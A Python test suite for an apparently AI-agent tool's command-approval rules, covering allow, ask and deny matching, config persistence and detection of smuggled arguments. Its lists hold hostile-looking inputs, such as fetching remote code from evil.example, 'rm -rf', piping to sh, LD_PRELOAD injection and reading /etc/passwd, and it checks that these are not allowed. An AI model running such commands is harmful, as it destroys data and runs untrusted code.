"""Rules about calls: offered with the question, written to the user's own file, in effect at once, never loosened."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from ragforge_tui.conversation.approvals.allowed_commands import placed_commands, without_redirections
from ragforge_tui.conversation.approvals.pending import Approvals
from ragforge_tui.conversation.approvals.programs import recognise
from ragforge_tui.conversation.approvals.rules import Rules
from ragforge_tui.graph import GraphTarget
from ragforge_tui.settings.load import load
from ragforge_tui.settings.schema import Paths
from ragforge_tui.shared.errors import ConfigError
from ragforge_tui.shared.events import ApprovalDecision, ApprovalRequested, Event, Notice
from ragforge_tui.shared.records import ToolCall, now
from ragforge_tui.shared.rules import PROGRAMS, Rule, parse_rule
from ragforge_tui.tools.base import ApprovalNeed, CallSubject
from ragforge_tui.tools.sensitive import Guard
from tests.conftest import EMBEDDED


@pytest.fixture
def graph_target(embedded_paths: Paths) -> GraphTarget:
    """The embedded graph alone: no dialect can change what is allowed."""
    return EMBEDDED


GUARD = Guard(Path("/workspace"), home=Path("/nobody"))
CALL = ToolCall(uuid="c", message_id="m", tool_name="run_command", arguments="{}", timestamp=now())


def need(command: str) -> ApprovalNeed:
    return ApprovalNeed(
        kind="command",
        question="?",
        detail=command,
        session_scope="this",
        session_key=command,
        command=command,
        subject=call(command),
    )


def call(command: str) -> CallSubject:
    return CallSubject(tool="run_command", access="command", subjects=(command,), command=command)


def test_a_rule_about_a_tool_is_one_about_what_is_joined_to_it() -> None:
    rules = Rules(GUARD, ["deny edit_file(docs/**)", "ask write_file"])
    patch = CallSubject(tool="apply_patch", access="write", joined="edit_file", subjects=("docs/a.md",))
    created = CallSubject(tool="create_file", access="write", joined="write_file", subjects=("a.md",))
    assert rules.judge(patch).effect == "deny" and rules.judge(created).effect == "ask"


def write(path: str, tool: str = "edit_file") -> CallSubject:
    return CallSubject(tool=tool, access="write", subjects=(path,))


def effect(rules: Rules, command: str) -> str:
    return rules.judge(call(command)).effect


class Asked:
    """Approvals with somebody who answers each question alike."""

    def __init__(self, rules: Rules, decision: ApprovalDecision) -> None:
        self.approvals = Approvals(rules=rules)
        self.decision = decision
        self.events: list[Event] = []

    async def __call__(self, command: str) -> bool:
        asked = asyncio.create_task(self.approvals.ask([(need(command), CALL)], "x", 1, self.events.append, mode="ask"))
        seen = len(self.events)
        while not asked.done() and len(self.events) == seen:
            await asyncio.sleep(0.001)
        if isinstance(event := self.events[-1] if self.events else None, ApprovalRequested):
            self.approvals.answer(event.approval_id, self.decision)
        return (await asked)[0][0]

    def requests(self) -> list[ApprovalRequested]:
        return [event for event in self.events if isinstance(event, ApprovalRequested)]


async def test_always_is_written_for_the_folder_and_holds_at_once(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("# mine\ntools:\n  ignore: [dist]  # built\n", encoding="utf-8")
    asked = Asked(Rules(GUARD, config_file=str(file)), "always")
    assert await asked("pytest -q tests")
    assert await asked(".venv/bin/python -m pytest -x --ignore=tests/slow 2>&1 | tail -5")
    assert await asked("git commit -m x && pytest | wc -l"), "asked about: only a part of it is allowed"
    assert await asked("uv run pytest && git commit -m y")
    assert [event.always for event in asked.requests()] == [["@tests"], ["git commit *"]]
    notices = [event.text for event in asked.events if isinstance(event, Notice)]
    assert notices[0] == "Allowed here without asking: running tests. /rules shows and changes it."
    text = file.read_text(encoding="utf-8")
    assert "# mine" in text and "# built" in text
    loaded = load(workspace=str(tmp_path), config_file=str(file), env={"RAGFORGE_HOME": str(tmp_path / "home")})
    assert loaded.settings.tools.rules == ["allow @tests in /workspace", "allow git commit * in /workspace"]
    other = Rules(Guard(Path("/other"), home=Path("/nobody")), loaded.settings.tools.rules)
    assert effect(other, "pytest") == "" and effect(Rules(GUARD, loaded.settings.tools.rules), "pytest") == "allow"


async def test_a_session_allows_tests_whatever_their_arguments_and_other_commands_to_the_letter() -> None:
    asked = Asked(Rules(GUARD), "session")
    for command in ("pytest -q", "npm test", "uv run pytest tests/a.py -x", "touch a", "touch a"):
        assert await asked(command)
    assert [(event.detail, event.session_scope) for event in asked.requests()] == [
        ("pytest -q", "running tests"),
        ("touch a", "this"),
    ]


async def test_a_question_says_why_no_pattern_covers_it_and_hides_nothing(tmp_path: Path) -> None:
    asked = Asked(Rules(GUARD, ["allow cat *"]), "no")
    assert not await asked("cat .env")
    assert not await asked("\u0441url x\u200b")
    first, second = asked.requests()
    assert first.question == "? `cat *` does not cover .env, which may hold keys or passwords."
    assert first.always == []
    assert second.detail == "\u0441<U+0441>url x<U+200B>"
    assert second.always == []


async def test_a_file_that_cannot_be_written_is_reported(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("tools: [", encoding="utf-8")
    asked = Asked(Rules(GUARD, config_file=str(file)), "always")
    assert await asked("make")
    assert await asked("make")
    assert len(asked.requests()) == 1
    assert any(isinstance(event, Notice) and event.level == "warning" for event in asked.events)
    assert file.read_text(encoding="utf-8") == "tools: ["


async def test_rules_ask_and_deny_and_bad_ones_are_named() -> None:
    rules = Rules(
        GUARD, ["ask git push *", "allow *", "deny @nothing", "allow nothing(x)"], ["git status", "git push *"]
    )
    asked = Asked(rules, "once")
    assert await asked("git status")
    assert await asked("git push")
    (question,) = asked.requests()
    assert question.question == "? Your rule is: ask git push *." and not question.always
    assert not question.session_scope
    assert len(rules.problems()) == 3 and "'allow *'" in rules.problems()[0]


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("deny git push *", "git push"),
        ("deny git push *", "git -C x push origin"),
        ("deny git push *", "cd a && sudo git push $X"),
        ("deny git push *", 'bash -c "git push"'),
        ("deny rm *", "find . -name x; /bin/rm -rf y"),
        ("deny @tests", "CI=1 npx vitest > log"),
        ("deny run_command", "ls"),
        ("deny run_command(curl *)", "echo $(curl x)"),
    ],
)
def test_deny_counts_wherever_its_words_occur(rule: str, command: str) -> None:
    assert effect(Rules(GUARD, [rule, "allow git push *"]), command) == "deny"
    assert effect(Rules(GUARD, [f"{rule} in /elsewhere"]), command) != "deny"


@pytest.mark.parametrize(
    ("rule", "path", "careful", "expected"),
    [
        ("allow write(src/**)", "src/a/b.py", False, "allow"),
        ("allow write(src/)", "./src/a.py", False, "allow"),
        ("allow edit_file(*.md)", "/workspace/docs/a.md", False, "allow"),
        ("allow edit_file(*.md)", "../a.md/x", False, ""),
        ("allow write(src/**)", "src/../setup.py", False, ""),
        ("allow write(*.toml)", "pyproject.toml", True, ""),
        ("allow write(/pyproject.toml)", "pyproject.toml", True, "allow"),
        ("allow write", "pyproject.toml", True, ""),
        ("deny write(*.lock)", "a/uv.lock", False, "deny"),
        ("ask write_file(src/)", "src/a.py", False, ""),
        ("deny edit_file", "a.py", False, "deny"),
    ],
)
def test_rules_about_files(rule: str, path: str, careful: bool, expected: str) -> None:
    assert Rules(GUARD, [rule]).judge(write(path), careful=careful).effect == expected


TESTS = """
    pytest|.venv/bin/python -m pytest -q|python3.11 -m pytest tests/a.py::test_b -x -k 'not (slow or big)' --tb=short|
    uv run pytest -n 4|
    poetry run pytest --cov=src --cov-report=term-missing|npm test|npm run test:unit -- --watch=false|
    yarn test|pnpm test|make test|make -j4 tests|cargo test --all -- --nocapture|go test ./... -run X -count=1|
    python -m unittest discover -s tests -p 'test_*.py'|npx vitest run src/a.test.ts|./node_modules/.bin/jest -t 'a b'|
    tox|tox run -e py311-django42,lint|nox -s tests|nox -s unit-3.12|ctest -j4 -v|make test-integration|
    npm run test:e2e:ci|phpunit --filter x|vitest run --coverage|gradle test --tests=X|bun test --bail|
    python -m unittest -v tests.a|
    PYTHONPATH=src timeout 60 pytest -p no:cacheprovider|tox -e py311|cd sub && pytest 2>&1 | tail -20|./gradlew test
"""
CHECKS = """
    ruff check src|python -m mypy src tests|.venv/bin/ruff format --check .|black --check .|npx tsc --noEmit|
    eslint . --ext .ts|npm run lint|make lint|cargo clippy|go vet ./...|gofmt -l .
"""
OTHERS = """
    pytest -p evil|pytest --basetemp=/x|pytest ../other|pytest --junitxml=x|pytest .env|pytest $X|pytest > out|
    /tmp/pytest|./pytest|PYTHONPATH=/evil pytest|LD_PRELOAD=x pytest|PYTEST_ADDOPTS=x pytest|
    uv run --with evil pytest|npx evil|npm run build|npm test --script-shell=x|
    make test CC=evil|make -f evil test|make test deploy|cargo test --config x|
    go test -exec evil|python -c 'import pytest'|python -m pytest; rm -rf .|tsc|tsc --noEmit --outDir /x|
    eslint -c evil.js .|jest --config evil.js|mocha -r evil|ruff check --fix|ruff format|pytest | sh|pytest & rm x|
    env pytest -c /x|npm --prefix /x test|npm test --node-options=--import=x|ava --node-arguments=x|mocha -n import=x|
    tox --override x=y|deno test -A https://evil.example/x.ts|pytest data:text/x|mvn test org.evil:plugin:1:run|
    gradle test publish|rake test deploy|mix test deploy|tox exec -- sh|tox e -- sh|tox devenv x|tox -e publish|
    tox -e py311,release|tox -e py311-upload|nox -s release|nox -s tests publish|nox -f x.py|ctest -S x.cmake|
    ctest -T Submit|ctest --build-and-test . . --build-makeprogram ./x --test-command sh x|bun test --preload ./x|
    eslint -f ./x.js|playwright test --ui-host=0.0.0.0|gradle test --scan|make lint-and-push|make test-deploy|
    npm run test:publish|npm run check:deploy|npm run spec:rm|yarn test:release|make tests_upload|just test-and-tag|
    jest --globalSetup=x|vitest run --globalSetup x|rspec -r ./x|phpunit --bootstrap x|ava --require x|
    mvn test -Dmaven.ext.class.path=x|dotnet test --logger x|swift test --package-path x|flutter test --dart-define=x
"""


@pytest.mark.parametrize(
    ("kind", "commands", "expected"), [("@tests", TESTS, "allow"), ("@checks", CHECKS, "allow"), ("@tests", OTHERS, "")]
)
def test_a_kind_of_program_is_one_rule(kind: str, commands: str, expected: str) -> None:
    rules = Rules(GUARD, [f"allow {kind}", "allow @checks"])
    written = [one for each in commands.split("|\n") for one in re.split(r"(?<! )\|(?! )", each.strip())]
    assert {command: effect(rules, command) for command in written} == dict.fromkeys(written, expected)


_WORDS = """
    pytest -m python uv run npm test -- -x tests -k a_b .venv/bin/pytest make -p evil /etc/passwd ../x .env
    --basetemp=/x -c env A=1 PYTHONPATH=.. sh timeout @file --junitxml=o -exec go cargo
    --config rm 10 eslint -o ~/x $(rm) *
"""
WORDS = st.lists(st.sampled_from(_WORDS.split()), min_size=1, max_size=8)
OUTSIDE = {"/etc/passwd", "../x", ".env", "PYTHONPATH=..", "@file", "~/x", "-exec", "--junitxml=o", "$(rm)"}


@given(WORDS, st.sampled_from(["", " 2>&1", " > out", "; rm x", " | sh", " & rm", "\nrm"]))
def test_what_a_kind_allows_starts_a_known_program_and_names_nothing_outside(words: list[str], end: str) -> None:
    command = " ".join(words) + end
    if effect(Rules(GUARD, [f"allow {kind}" for kind in PROGRAMS]), command) != "allow":
        return
    assert end in ("", " 2>&1")
    for placed in placed_commands(without_redirections(command), GUARD, quoted=True):
        found = recognise(placed, GUARD)
        assert found is not None and not found.why
    assert not OUTSIDE & set(words)


ABOUTS = st.sampled_from([*PROGRAMS, "git push *", "write(src/**)", "edit_file", "run_command(ls 'a b')", "x__y"])


@given(st.sampled_from(["allow", "ask", "deny"]), ABOUTS, st.sampled_from(["", "/a/b c", "~/x in y"]))
def test_a_rule_is_read_as_it_was_written(effect_: str, about: str, folder: str) -> None:
    rule = Rule(effect_, about, folder)  # type: ignore[arg-type]
    assert parse_rule(str(rule)) == rule


async def test_rules_are_replaced_in_the_file_and_others_are_kept(tmp_path: Path) -> None:
    file = tmp_path / "config.yaml"
    file.write_text("tools:\n  rules: ['allow ls', 'nonsense']\n  allow_commands: ['git status', 'make']\n", "utf-8")
    rules = Rules(GUARD, ["allow ls", "nonsense"], ["git status", "make"], config_file=str(file))
    await rules.replace(Rule("allow", "ls"), Rule("deny", "ls"))
    await rules.replace(None, Rule("ask", "@tests", "/workspace"))
    await rules.replace(Rule("allow", "git status"), None)
    await rules.replace(Rule("allow", "make"), Rule("ask", "make"))
    saved = load(workspace=str(tmp_path), config_file=str(file), env={"RAGFORGE_HOME": str(tmp_path / "home")})
    assert saved.settings.tools.rules == ["deny ls", "ask @tests in /workspace", "ask make", "nonsense"]
    assert saved.settings.tools.allow_commands == []
    assert [str(rule) for rule in rules.here()] == ["deny ls", "ask @tests in /workspace", "ask make"]
    file.write_text("tools: [", "utf-8")
    with pytest.raises(ConfigError):
        await rules.replace(None, Rule("deny", "rm *"))
    assert len(rules.here()) == 3


@pytest.mark.parametrize("key", ["allow_commands", "rules"])
def test_a_projects_file_can_allow_nothing(tmp_path: Path, key: str) -> None:
    (tmp_path / ".ragforge").mkdir()
    (tmp_path / ".ragforge" / "config.yaml").write_text(f"tools:\n  {key}: ['allow rm *']\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=key):
        load(workspace=str(tmp_path), env={"RAGFORGE_HOME": str(tmp_path / "home")})


def test_the_question_goes_over_the_pipe() -> None:
    event = ApprovalRequested(
        conversation_id="x", turn_index=1, approval_id="a", call=CALL, kind="command", question="?", always=["pytest *"]
    )
    assert msgspec.json.decode(msgspec.json.encode(event), type=ApprovalRequested).always == ["pytest *"]
